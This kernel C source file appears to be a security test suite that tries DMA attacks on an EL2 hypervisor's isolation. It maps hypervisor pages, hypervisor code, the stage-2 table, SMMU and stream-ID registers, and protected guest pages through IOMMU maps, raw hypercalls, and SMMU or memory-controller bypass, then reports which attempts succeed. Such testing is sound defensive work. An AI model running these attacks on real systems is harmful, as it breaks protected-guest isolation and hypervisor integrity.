// SPDX-License-Identifier: GPL-2.0-only
/*
 * DMA to targets that EL2 owns, in several ways.
 *
 * A way makes a physical address reachable for the bus master and returns its bus
 * address, or is refused. A target has a function that proves that it was reached.
 */
#include <linux/iommu.h>
#include <linux/random.h>
#include <linux/slab.h>

#include "attack.h"

struct iommu_domain *bm_domain(void)
{
	return iommu_get_domain_for_dev(bm_device(bm));
}

/* --- ways --------------------------------------------------------------- */

struct way {
	const char *name;
	/*
	 * Return 0 and the bus address; -ENOSYS if this machine or kernel lacks the way;
	 * or the error of the refusal. @phys is a whole page.
	 */
	int (*open)(phys_addr_t phys, u64 *addr);
	void (*close)(phys_addr_t phys);
	const char *refusal;
};

static int map_open(phys_addr_t phys, u64 *addr)
{
	*addr = ATTACK_IOVA;
	return iommu_map(bm_domain(), ATTACK_IOVA, phys, PAGE_SIZE, IOMMU_READ | IOMMU_WRITE,
			 GFP_KERNEL);
}

static void map_close(phys_addr_t phys)
{
	iommu_unmap(bm_domain(), ATTACK_IOVA, PAGE_SIZE);
}

static int hypercall_open(phys_addr_t phys, u64 *addr)
{
	int handle = bm_domain_handle();

	if (handle < 0)
		return handle;
	*addr = ATTACK_IOVA;
	return hyp_map(handle, ATTACK_IOVA, phys, PAGE_SIZE, 1, IOMMU_READ | IOMMU_WRITE);
}

static void hypercall_close(phys_addr_t phys)
{
	hyp_unmap(bm_domain_handle(), ATTACK_IOVA, PAGE_SIZE, 1);
}

/* The physical address itself: it is reached if no SMMU translates. */
static int direct_open(phys_addr_t phys, u64 *addr)
{
	*addr = phys;
	return 0;
}

static void direct_close(phys_addr_t phys)
{
}

/* Override the client's stream ID with the passthrough stream ID. */
static u32 mc_saved[2];

static int mc_open(phys_addr_t phys, u64 *addr)
{
	u32 client[2] = { bm_info.client_read, bm_info.client_write };
	int i, ret;

	if (!mc_sid_base || client[0] == BM_AS_DESCRIBED)
		return -ENOSYS;
	*addr = phys;
	for (i = 0; i < 2; i++) {
		/* Registers that cannot be read may still be writable. */
		if (read32(mc_sid_base + MC_OVERRIDE(client[i]), &mc_saved[i]))
			mc_saved[i] = 0;
		ret = write32(mc_sid_base + MC_OVERRIDE(client[i]), MC_SID_PASSTHROUGH);
		if (ret)
			return ret;
	}
	return 0;
}

static void mc_close(phys_addr_t phys)
{
	/* Both may be the same client: restore in reverse order. */
	write32(mc_sid_base + MC_OVERRIDE(bm_info.client_write), mc_saved[1]);
	if (bm_info.client_read != bm_info.client_write)
		write32(mc_sid_base + MC_OVERRIDE(bm_info.client_read), mc_saved[0]);
}

/* Set the stream's S2CR to bypass, in both instances. */
#define SMMU_ID0		0x20
#define SMMU_ID0_NUMSMRG	0xff
#define SMMU_SMR(n)		(0x800 + (n) * 4)
#define SMMU_SMR_VALID		BIT(31)
#define SMMU_S2CR(n)		(0xc00 + (n) * 4)
#define SMMU_S2CR_TYPE		GENMASK(17, 16)
#define SMMU_S2CR_TYPE_BYPASS	BIT(16)

static u32 s2cr_index, s2cr_saved;

static int find_smr(phys_addr_t base, u32 sid)
{
	u32 i, id0, smr;
	int ret;

	ret = read32(base + SMMU_ID0, &id0);
	if (ret)
		return ret;
	for (i = 0; i < (id0 & SMMU_ID0_NUMSMRG); i++) {
		ret = read32(base + SMMU_SMR(i), &smr);
		if (ret)
			return ret;
		if ((smr & SMMU_SMR_VALID) && !((smr ^ sid) & 0x7fff & ~(smr >> 16)))
			return i;
	}
	return -ENOENT;
}

static int smmu_write_s2cr(u32 value)
{
	unsigned int i;
	int ret = 0;

	for (i = 0; i < bm_smmu->nr_instances; i++)
		ret = write32(bm_smmu->base[i] + SMMU_S2CR(s2cr_index), value) ?: ret;
	return ret;
}

static int smmu_open(phys_addr_t phys, u64 *addr)
{
	unsigned int i;
	int n, ret;

	if (!bm_smmu)
		return -ENOSYS;
	*addr = phys;

	n = find_smr(bm_smmu->base[0], bm_info.sid);
	if (n < 0) {
		/* Registers that cannot be read may still be writable: try all. */
		for (i = 0; i < 128; i++) {
			s2cr_index = i;
			ret = smmu_write_s2cr(SMMU_S2CR_TYPE_BYPASS);
			if (ret)
				return ret;
		}
		return 0;
	}
	s2cr_index = n;
	ret = read32(bm_smmu->base[0] + SMMU_S2CR(s2cr_index), &s2cr_saved);
	if (ret)
		return ret;
	return smmu_write_s2cr((s2cr_saved & ~SMMU_S2CR_TYPE) | SMMU_S2CR_TYPE_BYPASS);
}

static void smmu_close(phys_addr_t phys)
{
	smmu_write_s2cr(s2cr_saved);
}

enum { WAY_MAP, WAY_HYPERCALL, WAY_DIRECT, WAY_MC, WAY_SMMU };

static const struct way ways[] = {
	[WAY_MAP] = { "map", map_open, map_close, "iommu_map() was refused" },
	[WAY_HYPERCALL] = { "hypercall", hypercall_open, hypercall_close,
			    "the hypercall was refused" },
	[WAY_DIRECT] = { "direct", direct_open, direct_close, "" },
	[WAY_MC] = { "mc", mc_open, mc_close,
		     "the write to the memory controller was refused" },
	[WAY_SMMU] = { "smmu", smmu_open, smmu_close, "the write to the SMMU was refused" },
};

/*
 * Check that the maps work for a page that the host owns. Ways through registers need no
 * control: the DMA is aborted or not.
 */
static int control(const struct way *w, struct outcome *o)
{
	struct page *page;
	int ret = -EIO;
	u64 addr, data = get_random_u64(), got = 0;

	if (w != &ways[WAY_MAP] && w != &ways[WAY_HYPERCALL])
		return 0;

	page = alloc_page(GFP_KERNEL | __GFP_ZERO);
	if (!page)
		return -ENOMEM;
	ret = w->open(page_to_phys(page), &addr);
	if (ret == -ENOSYS) {
		is_na(o, "the kernel has no such hypercall");
	} else if (ret) {
		is_broken(o, "a page of the host cannot be mapped either: error %d", ret);
	} else {
		if (!dma(addr, true, &data, 8) || READ_ONCE(*(u64 *)page_address(page)) != data ||
		    !dma(addr, false, &got, 8) || got != data) {
			is_broken(o, "a page of the host is mapped but not reached");
			ret = -EIO;
		}
		w->close(page_to_phys(page));
	}
	__free_page(page);
	return ret;
}

/* --- targets ------------------------------------------------------------ */

struct target {
	const char *name;
	phys_addr_t (*find)(const struct way *w);
	/* Return true, with a result, if @addr reaches the target. */
	bool (*reached)(u64 addr, phys_addr_t phys, struct outcome *o, const char *way);
};

/* An unused page: write, read back, restore. */
static phys_addr_t find_spare(const struct way *w)
{
	return hyp_spare_page();
}

static bool reached_spare(u64 addr, phys_addr_t phys, struct outcome *o, const char *way)
{
	u64 old[2], mark[2], now[2];

	get_random_bytes(mark, sizeof(mark));
	if (!dma(addr, false, old, sizeof(old)))
		return false;
	if (!dma(addr, true, mark, sizeof(mark))) {
		is_open(o, "%s: hypervisor page %#llx was read", way, phys);
		return true;
	}
	if (!dma(addr, false, now, sizeof(now)) || memcmp(now, mark, sizeof(mark))) {
		is_broken(o, "%s: other data were read back than written", way);
		return true;
	}
	dma(addr, true, old, sizeof(old));
	is_open(o, "%s: hypervisor page %#llx was read, written and read back", way, phys);
	return true;
}

/* The host may read EL2's code, so it knows the data that DMA must return. */
static phys_addr_t find_text(const struct way *w)
{
	return hyp_text_page();
}

static bool reached_text(u64 addr, phys_addr_t phys, struct outcome *o, const char *way)
{
	u64 word;

	if (!dma(addr, false, &word, 8))
		return false;
	if (word != READ_ONCE(*(u64 *)phys_to_virt(phys))) {
		is_broken(o, "%s: DMA and the CPU read different data", way);
		return true;
	}
	if (!dma(addr, true, &word, 8)) {
		is_stopped(o, "%s: EL2's code was read, which is allowed, but not written", way);
		return true;
	}
	is_open(o, "%s: EL2's code at %#llx was written", way, phys);
	return true;
}

/*
 * The host's stage-2 table: writing it gives control of the machine. Its address is in
 * EL2's data, which must be read by DMA first.
 */
static phys_addr_t find_stage2(const struct way *w)
{
	phys_addr_t at = hyp_stage2_pointer();
	u64 addr, pgd = 0;

	if (!at || w->open(at & PAGE_MASK, &addr))
		return 0;
	if (!dma(addr + offset_in_page(at), false, &pgd, 8))
		pgd = 0;
	w->close(at & PAGE_MASK);
	return pgd & PAGE_MASK;
}

static bool reached_stage2(u64 addr, phys_addr_t phys, struct outcome *o, const char *way)
{
	static u64 table[PTRS_PER_PTE];
	int i, tables = 0;

	if (!dma(addr, false, table, sizeof(table)))
		return false;
	for (i = 0; i < PTRS_PER_PTE; i++)
		tables += (table[i] & 3) == 3;
	for (i = 0; i < PTRS_PER_PTE && (table[i] & 3) != 3; i++)
		;
	if (!tables) {
		is_broken(o, "%s: %#llx was read but is not a table", way, phys);
		return true;
	}
	if (!dma(addr + i * 8, true, &table[i], 8)) {
		is_open(o, "%s: the host's stage-2 table at %#llx was read", way, phys);
		return true;
	}
	is_open(o, "%s: the host's stage-2 table at %#llx was read and written, %d entries", way,
		phys, tables);
	return true;
}

/* Registers of an SMMU's last instance: ID0 is never zero, sGFSR ignores zeroes. */
#define SMMU_SGFSR		0x48

static phys_addr_t find_smmu(const struct way *w)
{
	const struct smmu *s = nr_smmus ? &smmus[nr_smmus - 1] : NULL;

	return s && s->nr_instances ? s->base[s->nr_instances - 1] : 0;
}

static bool reached_smmu(u64 addr, phys_addr_t phys, struct outcome *o, const char *way)
{
	u32 id = 0, zero = 0;

	if (!dma(addr + SMMU_ID0, false, &id, sizeof(id)) || !id)
		return false;
	if (dma(addr + SMMU_SGFSR, true, &zero, sizeof(zero)))
		is_open(o, "%s: SMMU registers at %#llx were read and written", way, phys);
	else
		is_open(o, "%s: SMMU registers at %#llx were read", way, phys);
	return true;
}

/* The register with the bus master's stream ID */
static phys_addr_t find_mc(const struct way *w)
{
	return bm_info.client_read == BM_AS_DESCRIBED ? 0 : mc_sid_base;
}

static bool reached_mc(u64 addr, phys_addr_t phys, struct outcome *o, const char *way)
{
	u32 sid = ~0;

	addr += MC_OVERRIDE(bm_info.client_write);
	if (!dma(addr, false, &sid, sizeof(sid)) ||
	    (sid != bm_info.sid && sid != MC_SID_PASSTHROUGH))
		return false;
	if (dma(addr, true, &sid, sizeof(sid)))
		is_open(o, "%s: the stream ID registers were read and written", way);
	else
		is_open(o, "%s: the stream ID registers were read", way);
	return true;
}

/* A page that a protected guest owns, and has written a word to */
#define GUEST_WORD		0xbeefULL

static phys_addr_t guest_page;

static phys_addr_t find_guest(const struct way *w)
{
	return guest_page;
}

static bool reached_guest(u64 addr, phys_addr_t phys, struct outcome *o, const char *way)
{
	u64 word = 0, last;

	if (!dma(addr, false, &word, sizeof(word)))
		return false;
	if (word != GUEST_WORD) {
		is_broken(o, "%s: the page was read, but holds %#llx", way, word);
		return true;
	}
	/* The guest does not use the end of its page. */
	last = 0;
	if (dma(addr + PAGE_SIZE - 8, true, &last, sizeof(last)))
		is_open(o, "%s: the guest's page %#llx was read and written", way, phys);
	else
		is_open(o, "%s: the guest's page %#llx was read", way, phys);
	return true;
}

/*
 * An I/O page table of EL2: a new domain takes the last donated page for its structure,
 * and the one before it for its root table.
 */
static phys_addr_t find_iotable(const struct way *w)
{
	static phys_addr_t table;
	struct page *first, *second;

	if (table || bm_domain_handle() < 0)
		return table;
	first = alloc_page(GFP_KERNEL | __GFP_ZERO);
	second = alloc_page(GFP_KERNEL | __GFP_ZERO);
	if (!first || !second || hyp_topup(page_to_pfn(first)) || hyp_topup(page_to_pfn(second)))
		return 0;
	if (hyp_alloc_domain(bm_iommu) > 0)
		table = page_to_phys(first);
	return table;
}

static bool reached_iotable(u64 addr, phys_addr_t phys, struct outcome *o, const char *way)
{
	u64 entry;

	if (!dma(addr, false, &entry, sizeof(entry)))
		return false;
	is_open(o, "%s: an I/O page table at %#llx was read", way, phys);
	return true;
}

enum {
	TARGET_SPARE, TARGET_TEXT, TARGET_STAGE2, TARGET_SMMU, TARGET_MC, TARGET_GUEST,
	TARGET_IOTABLE,
};

static const struct target targets[] = {
	[TARGET_SPARE] = { "hypervisor page", find_spare, reached_spare },
	[TARGET_TEXT] = { "hypervisor code", find_text, reached_text },
	[TARGET_STAGE2] = { "host stage-2 table", find_stage2, reached_stage2 },
	[TARGET_SMMU] = { "SMMU registers", find_smmu, reached_smmu },
	[TARGET_MC] = { "stream ID registers", find_mc, reached_mc },
	[TARGET_GUEST] = { "protected guest", find_guest, reached_guest },
	[TARGET_IOTABLE] = { "I/O page table at EL2", find_iotable, reached_iotable },
};

/* --- attacks ------------------------------------------------------------ */

#define TRY(target, way)	(TARGET_##target << 8 | WAY_##way)

static void attack_dma(struct outcome *o, unsigned long data, const char *arg)
{
	const struct target *t = &targets[data >> 8];
	const struct way *w = &ways[data & 0xff];
	phys_addr_t phys;
	u64 addr;
	int ret;

	if (!bm) {
		is_na(o, "the machine has no programmable bus master");
		return;
	}
	phys = hyp_spare_page();
	if (!phys) {
		is_na(o, "EL2 has no memory of its own");
		return;
	}
	if (t == &targets[TARGET_GUEST] && (kstrtoull(arg, 0, &guest_page) || !guest_page ||
					    host_may_read(guest_page))) {
		is_na(o, "no protected guest has a page");
		return;
	}
	if (host_may_read(phys)) {
		is_na(o, "the host's CPU can access %#llx, too", phys);
		return;
	}
	ret = w->open(phys, &addr);
	if (ret == -ENOSYS) {
		is_na(o, "the machine or the kernel lacks this way");
		return;
	}
	if (!ret)
		w->close(phys);
	if (control(w, o))
		return;

	phys = t->find(w);
	if (!phys && t == &targets[TARGET_STAGE2]) {
		/* Its address is in EL2's data, which DMA did not reach. */
		is_stopped(o, "DMA did not reach its address in EL2's data");
		return;
	}
	if (!phys) {
		is_na(o, "the machine has no %s", t->name);
		return;
	}

	ret = w->open(phys, &addr);
	if (ret) {
		/* Check the refusal: the bus address must be unreachable. */
		if (!t->reached(addr, phys, o, w->name))
			is_stopped(o, "%s (%d), and DMA was aborted", w->refusal, ret);
		return;
	}
	if (!t->reached(addr, phys, o, w->name))
		is_stopped(o, "DMA was aborted");
	w->close(phys);
}

/*
 * Ranges that start or end with pages of the host and contain one of the guest, and
 * blocks around it
 */
static const struct {
	const char *what;
	s64 start;		/* offset from the guest's page, or */
	u64 align;		/* alignment of the block around it */
	u64 pgsize, pgcount;
} ranges[] = {
	{ "a range that ends with the guest's page", -(s64)SZ_4K, 0, SZ_4K, 2 },
	{ "a range that starts with the guest's page", 0, 0, SZ_4K, 2 },
	{ "a range around the guest's page", -8 * (s64)SZ_4K, 0, SZ_4K, 16 },
	/* the maximum of a call */
	{ "1 MiB of pages around the guest's page", 0, SZ_1M, SZ_4K, SZ_1M / SZ_4K },
	{ "a block of 2 MiB", 0, SZ_2M, SZ_2M, 1 },
	{ "a block of 1 GiB", 0, SZ_1G, SZ_1G, 1 },
};

static phys_addr_t range_start(int i, phys_addr_t phys)
{
	return ranges[i].align ? ALIGN_DOWN(phys, ranges[i].align) : phys + ranges[i].start;
}

static void attack_ranges(struct outcome *o, unsigned long raw, const char *arg)
{
	struct iommu_domain *domain;
	phys_addr_t phys, start;
	int i, handle = 0;
	long ret = 0;
	u64 iova, size, word;

	if (!bm || !hyp_spare_page() || kstrtoull(arg, 0, &phys) || host_may_read(phys)) {
		is_na(o, "there is no bus master, or no protected guest with a page");
		return;
	}
	handle = raw ? bm_domain_handle() : 0;
	if (handle < 0) {
		is_na(o, "the kernel has no such hypercall");
		return;
	}
	domain = bm_domain();
	for (i = 0; i < ARRAY_SIZE(ranges) && !o->verdict; i++) {
		start = range_start(i, phys);
		iova = SZ_1G + (start & (SZ_1G - 1));
		size = ranges[i].pgsize * ranges[i].pgcount;
		if (raw)
			ret = hyp_map(handle, iova, start, ranges[i].pgsize, ranges[i].pgcount,
				      IOMMU_READ | IOMMU_WRITE);
		else
			ret = iommu_map(domain, iova, start, size, IOMMU_READ | IOMMU_WRITE,
					GFP_KERNEL);
		word = 0;
		if (iommu_iova_to_phys(domain, iova + phys - start) == phys ||
		    dma(iova + phys - start, false, &word, sizeof(word)))
			is_open(o, "%s: returned %ld, and the guest's page is mapped; it holds %#llx",
				ranges[i].what, ret, word);
		else if (!ret)
			is_broken(o, "%s: it was mapped, but the guest's page is not reached",
				  ranges[i].what);
		if (!ret && !raw) {
			iommu_unmap(domain, iova, size);
			continue;
		}
		/* Unmap what a call may have mapped partly. */
		for (; raw && size; size -= SZ_4K)
			if (iommu_iova_to_phys(domain, iova + size - SZ_4K))
				hyp_unmap(handle, iova + size - SZ_4K, SZ_4K, 1);
	}
	if (!o->verdict)
		is_stopped(o, "all %d ranges and blocks were refused", i);
}

const struct attack dma_attacks[] = {
	{ "dma-hyp-map", "map a hypervisor page for a device, DMA to it",
	  attack_dma, TRY(SPARE, MAP) },
	{ "dma-hyp-hypercall", "map a hypervisor page by a raw hypercall, DMA to it",
	  attack_dma, TRY(SPARE, HYPERCALL) },
	{ "dma-hyp-direct", "DMA to a hypervisor page by its physical address",
	  attack_dma, TRY(SPARE, DIRECT) },
	{ "dma-hyp-mc", "put a client into passthrough, DMA to a hypervisor page",
	  attack_dma, TRY(SPARE, MC) },
	{ "dma-hyp-smmu", "set a stream to bypass, DMA to a hypervisor page",
	  attack_dma, TRY(SPARE, SMMU) },
	{ "dma-text-map", "map EL2's code for a device, write to it",
	  attack_dma, TRY(TEXT, MAP) },
	{ "dma-text-hypercall", "map EL2's code by a raw hypercall, write to it",
	  attack_dma, TRY(TEXT, HYPERCALL) },
	{ "dma-text-mc", "write EL2's code by a client in passthrough",
	  attack_dma, TRY(TEXT, MC) },
	{ "dma-text-smmu", "write EL2's code through a stream in bypass",
	  attack_dma, TRY(TEXT, SMMU) },
	{ "dma-table-map", "map the host's stage-2 table for a device, write to it",
	  attack_dma, TRY(STAGE2, MAP) },
	{ "dma-table-hypercall", "map the host's stage-2 table by a raw hypercall, write to it",
	  attack_dma, TRY(STAGE2, HYPERCALL) },
	{ "dma-table-mc", "write the host's stage-2 table by a client in passthrough",
	  attack_dma, TRY(STAGE2, MC) },
	{ "dma-table-smmu", "write the host's stage-2 table through a stream in bypass",
	  attack_dma, TRY(STAGE2, SMMU) },
	{ "dma-smmu-map", "map SMMU registers for a device, write to them",
	  attack_dma, TRY(SMMU, MAP) },
	{ "dma-smmu-hypercall", "map SMMU registers by a raw hypercall, write to them",
	  attack_dma, TRY(SMMU, HYPERCALL) },
	{ "dma-smmu-mc", "write SMMU registers by a client in passthrough",
	  attack_dma, TRY(SMMU, MC) },
	{ "dma-mc-map", "map the stream ID registers for a device, write to them",
	  attack_dma, TRY(MC, MAP) },
	{ "dma-mc-hypercall", "map the stream ID registers by a raw hypercall, write to them",
	  attack_dma, TRY(MC, HYPERCALL) },
	{ "dma-mc-mc", "write the stream ID registers by a client in passthrough",
	  attack_dma, TRY(MC, MC) },
	{ "dma-iotable-map", "map one of EL2's I/O page tables for a device, write to it",
	  attack_dma, TRY(IOTABLE, MAP) },
	{ "dma-iotable-hypercall", "map an I/O page table by a raw hypercall, write to it",
	  attack_dma, TRY(IOTABLE, HYPERCALL) },
	{ "dma-iotable-direct", "DMA to an I/O page table by its physical address",
	  attack_dma, TRY(IOTABLE, DIRECT) },
	{ "dma-iotable-mc", "write an I/O page table by a client in passthrough",
	  attack_dma, TRY(IOTABLE, MC) },
	{ "guest-map", "map a protected guest's page for a device, read and write it",
	  attack_dma, TRY(GUEST, MAP) },
	{ "guest-hypercall", "map a guest's page by a raw hypercall, read and write it",
	  attack_dma, TRY(GUEST, HYPERCALL) },
	{ "guest-direct", "DMA to a guest's page by its physical address",
	  attack_dma, TRY(GUEST, DIRECT) },
	{ "guest-mc", "put a client into passthrough, DMA to a guest's page",
	  attack_dma, TRY(GUEST, MC) },
	{ "guest-smmu", "set a stream to bypass, DMA to a guest's page",
	  attack_dma, TRY(GUEST, SMMU) },
	{ "guest-range", "map ranges and blocks that contain a guest's page", attack_ranges, 0 },
	{ "guest-range-hypercall", "map ranges and blocks with a guest's page by raw hypercalls",
	  attack_ranges, 1 },
	{ }
};
